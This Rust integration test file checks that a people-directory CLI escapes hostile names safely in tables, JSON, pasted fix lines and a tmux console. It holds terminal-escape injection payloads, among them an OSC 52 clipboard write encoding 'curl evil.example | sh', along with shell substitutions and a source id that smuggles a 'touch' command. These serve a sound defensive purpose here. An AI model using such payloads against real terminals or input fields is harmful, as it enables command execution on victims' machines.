//! Hostile names created through Graph reach neither the admin's terminal nor their shell: the
//! CLI's tables and JSON, doctor's pasted fix line, and the real console under tmux.

use crate::support;

use std::process::{Command as StdCommand, Output};
use std::time::{Duration, Instant};

use assert_cmd::Command;
use peoplectl::emulator::SeedKind;
use peoplectl::graph::connections::NewConnection;
use peoplectl::graph::sources::NewProfileSource;
use peoplectl::text::is_unsafe;
use serde_json::Value;

/// An OSC 52 clipboard write (`curl evil.example | sh`), an OSC 0 title, a screen clear, a bidi
/// override, a C1 CSI, and shell syntax.
const HOSTILE: &str = "Contoso \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;pwned\x07\x1b[2J\u{202e}RH\u{9b}31m $(id);`id`";

struct Tenant {
    env: support::Env,
    dirs: tempfile::TempDir,
    /// The source id that runs a command when pasted unquoted.
    evil_id: String,
}

/// The demo tenant plus a connection named [`HOSTILE`] and an orphan source whose id and name
/// are hostile, all created through Graph.
async fn hostile_tenant() -> Tenant {
    let env = support::env(SeedKind::Demo).await;
    let dirs = tempfile::tempdir().unwrap();
    let evil_id = format!("hr;touch${{IFS}}{};#", dirs.path().join("pwned").display());
    env.client
        .create_connection(&NewConnection {
            id: "evilconn".into(),
            name: HOSTILE.into(),
            description: HOSTILE.into(),
            content_category: Some("people".into()),
        })
        .await
        .unwrap();
    for id in [evil_id.as_str(), "--yes"] {
        env.client
            .create_profile_source(&NewProfileSource {
                source_id: id.into(),
                display_name: HOSTILE.into(),
                kind: Some(HOSTILE.into()),
                web_url: "https://hr.example.com/x".into(),
            })
            .await
            .unwrap();
    }
    Tenant { env, dirs, evil_id }
}

impl Tenant {
    fn env_vars(&self) -> Vec<(String, String)> {
        let mut vars = self.env.emu.env_lines();
        vars.push(("NO_PROXY".into(), "127.0.0.1,localhost".into()));
        vars.push((
            "PEOPLECTL_CONFIG_DIR".into(),
            self.dirs.path().join("config").display().to_string(),
        ));
        vars.push((
            "PEOPLECTL_DATA_DIR".into(),
            self.dirs.path().join("data").display().to_string(),
        ));
        vars
    }

    async fn run(&self, args: &[&str]) -> Output {
        let mut cmd = Command::cargo_bin("peoplectl").unwrap();
        cmd.args(args)
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap_or_default())
            .envs(self.env_vars());
        tokio::task::spawn_blocking(move || cmd.output().unwrap())
            .await
            .unwrap()
    }
}

/// Fails when `stream` holds anything a terminal would act on (line feeds are ours).
fn assert_inert(what: &str, stream: &[u8]) {
    let text = String::from_utf8_lossy(stream);
    if let Some(c) = text.chars().find(|c| *c != '\n' && is_unsafe(*c)) {
        panic!("{what} printed U+{:04X} raw:\n{text}", u32::from(c));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn read_commands_show_hostile_names_inertly_in_tables_and_exactly_in_json() {
    let t = hostile_tenant().await;
    let commands: [&[&str]; 6] = [
        &["connections", "list"],
        &["connections", "show", "evilconn"],
        &["sources", "list"],
        &["precedence", "show"],
        &["doctor"],
        &["profile", "show", "alex.wilber@contoso.com", "--explain"],
    ];
    for args in commands {
        let out = t.run(args).await;
        let what = args.join(" ");
        let code = out.status.code().unwrap();
        assert!(code == 0 || code == 3, "{what} exited {code}: {out:?}");
        assert_inert(&what, &out.stdout);
        assert_inert(&what, &out.stderr);
        // Tables fit the terminal (fix lines are printed whole, to be pasted).
        if args.len() == 2 && args[0] != "doctor" {
            for line in String::from_utf8_lossy(&out.stdout).lines() {
                assert!(
                    unicode_width::UnicodeWidthStr::width(line) <= 80,
                    "{what}: {line:?}"
                );
            }
        }

        let mut json_args = args.to_vec();
        json_args.extend(["--output", "json"]);
        let out = t.run(&json_args).await;
        assert_inert(&format!("{what} -o json"), &out.stdout);
        let doc: Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("{what} -o json is not JSON ({e}): {out:?}"));
        if matches!(args[0], "connections" | "sources") {
            assert!(
                doc.to_string()
                    .contains(&serde_json::to_string(HOSTILE).unwrap()),
                "{what}: the name is kept exactly"
            );
        }
    }

    let out = t.run(&["connections", "show", "evilconn"]).await;
    let table = String::from_utf8(out.stdout).unwrap();
    assert!(table.contains("Contoso ␛]52;c;Y3Vy"), "{table}");
    assert!(table.contains("\\u{202e}RH\\u{9b}31m"), "{table}");

    let out = t
        .run(&["connections", "show", "evilconn", "-o", "json"])
        .await;
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["name"], HOSTILE, "JSON round-trips the exact name");
    let raw = String::from_utf8(out.stdout).unwrap();
    assert!(raw.contains("\\u202e") && raw.contains("\\u009b"), "{raw}");
}

/// The doctor case of issue 14: the printed fix line, pasted into `sh` with `peoplectl` being
/// a recorder, hands over exactly the id and runs nothing else.
#[tokio::test(flavor = "multi_thread")]
async fn doctors_fix_line_pasted_into_sh_runs_exactly_the_intended_command() {
    let t = hostile_tenant().await;
    let bin = t.dirs.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let recorder = bin.join("peoplectl");
    std::fs::write(
        &recorder,
        "#!/bin/sh\nfor a in \"$@\"; do printf '%s\\0' \"$a\"; done >> \"$RECORD\"\nprintf '\\n' >> \"$RECORD\"\n",
    )
    .unwrap();
    let mut perms = std::fs::metadata(&recorder).unwrap().permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut perms, 0o755);
    std::fs::set_permissions(&recorder, perms).unwrap();

    let table = String::from_utf8(t.run(&["doctor"]).await.stdout).unwrap();
    let json: Value =
        serde_json::from_slice(&t.run(&["doctor", "-o", "json"]).await.stdout).unwrap();
    let fix_for = |id: &str| {
        json["problems"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["subject"] == id)
            .unwrap_or_else(|| panic!("no problem about {id:?}: {json}"))["fix"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    for (id, want) in [
        (t.evil_id.as_str(), vec!["remove", t.evil_id.as_str()]),
        ("--yes", vec!["remove", "--", "--yes"]),
    ] {
        let fix = fix_for(id);
        assert!(
            table.lines().any(|l| l.trim() == format!("fix: {fix}")),
            "the table prints the same line as JSON's fix: {fix}\n{table}"
        );
        let record = t.dirs.path().join(format!("argv-{}", want.len()));
        let out = StdCommand::new("sh")
            .arg("-c")
            .arg(&fix)
            .env(
                "PATH",
                format!("{}:{}", bin.display(), std::env::var("PATH").unwrap()),
            )
            .env("RECORD", &record)
            .output()
            .unwrap();
        assert!(out.status.success(), "{fix}: {out:?}");
        let recorded = std::fs::read_to_string(&record).unwrap();
        let argv: Vec<&str> = recorded.trim_end_matches("\0\n").split('\0').collect();
        assert_eq!(argv, want, "{fix}");
        assert_eq!(
            shell_words::split(&fix).unwrap(),
            std::iter::once("peoplectl")
                .chain(want.iter().copied())
                .collect::<Vec<_>>()
        );
    }
    assert!(
        !t.dirs.path().join("pwned").exists(),
        "pasting the fix ran the id's command"
    );
}

fn tmux(socket: &str, args: &[&str]) -> Output {
    StdCommand::new("tmux")
        .args(["-L", socket, "-f", "/dev/null"])
        .args(args)
        .output()
        .expect("run tmux (apt-get install -y tmux)")
}

struct Server(String);

impl Drop for Server {
    fn drop(&mut self) {
        let _ = tmux(&self.0, &["kill-server"]);
    }
}

fn wait_for(socket: &str, what: impl Fn(&str) -> bool) -> String {
    let start = Instant::now();
    loop {
        let screen =
            String::from_utf8_lossy(&tmux(socket, &["capture-pane", "-p"]).stdout).into_owned();
        if what(&screen) {
            return screen;
        }
        assert!(
            start.elapsed() < Duration::from_secs(60),
            "timed out; the screen shows:\n{screen}"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn buffers(socket: &str) -> String {
    String::from_utf8_lossy(&tmux(socket, &["list-buffers"]).stdout).into_owned()
}

fn title(socket: &str) -> String {
    String::from_utf8_lossy(&tmux(socket, &["display-message", "-p", "#{pane_title}"]).stdout)
        .trim()
        .to_owned()
}

/// Starts a tmux server that honours OSC 52 (`set-clipboard on`) running `command` at `size`.
fn start_tmux(socket: &str, size: (u16, u16), command: &str) -> Server {
    let server = Server(socket.to_owned());
    let out = tmux(
        socket,
        &[
            "new-session",
            "-d",
            "-x",
            &size.0.to_string(),
            "-y",
            &size.1.to_string(),
            "sleep 600",
            ";",
            "set-option",
            "-g",
            "set-clipboard",
            "on",
            ";",
            "respawn-pane",
            "-k",
            command,
        ],
    );
    assert!(out.status.success(), "tmux: {out:?}");
    server
}

#[tokio::test(flavor = "multi_thread")]
async fn the_console_under_tmux_neither_sets_the_clipboard_nor_the_title() {
    let t = hostile_tenant().await;
    let id = std::process::id();
    // The check can fail: the same tmux takes a raw OSC 52 and title into a buffer and the title.
    let control = format!("peoplectl-osc-control-{id}");
    let _control = start_tmux(
        &control,
        (80, 24),
        "printf '\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\007\\033]0;pwned\\007ready'; sleep 600",
    );
    wait_for(&control, |s| s.contains("ready"));
    let start = Instant::now();
    while buffers(&control).is_empty() && start.elapsed() < Duration::from_secs(10) {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(!buffers(&control).is_empty(), "tmux took no OSC 52 at all");
    assert_eq!(title(&control), "pwned");

    for size in [(80u16, 24u16), (60, 20)] {
        let socket = format!("peoplectl-osc-{id}-{}", size.0);
        let env = t
            .env_vars()
            .iter()
            .map(|(k, v)| format!("{k}={}", peoplectl::text::shell_quote(v)))
            .collect::<Vec<_>>()
            .join(" ");
        let command = format!(
            "env {env} LANG=C.UTF-8 {}",
            peoplectl::text::shell_quote(env!("CARGO_BIN_EXE_peoplectl"))
        );
        let _server = start_tmux(&socket, size, &command);
        let before = title(&socket);
        // The connections pane lists the hostile name; show it, its detail, and every pane.
        let screen = wait_for(&socket, |s| {
            s.contains("evilconn") && s.contains("Contoso ␛]")
        });
        assert!(screen.lines().count() <= usize::from(size.1));
        for (keys, shows) in [
            ("2", "Profile sources"),
            ("3", "rank 1 = highest"),
            ("4", "Search (/)"),
            ("5", "┌ Sync"),
            ("1", "CONTRACT"),
        ] {
            tmux(&socket, &["send-keys", keys]);
            let screen = wait_for(&socket, |s| s.contains(shows));
            assert!(!screen.contains("pwned\n"), "{screen}");
        }
        assert_eq!(
            buffers(&socket),
            "",
            "the console put something in the clipboard"
        );
        assert_eq!(title(&socket), before, "the console retitled the window");
        assert!(!title(&socket).contains("pwned"));
        let screen = wait_for(&socket, |s| s.contains("evilconn"));
        assert!(screen.contains("Contoso ␛]"), "{screen}");
        tmux(&socket, &["send-keys", "q"]);
    }
}
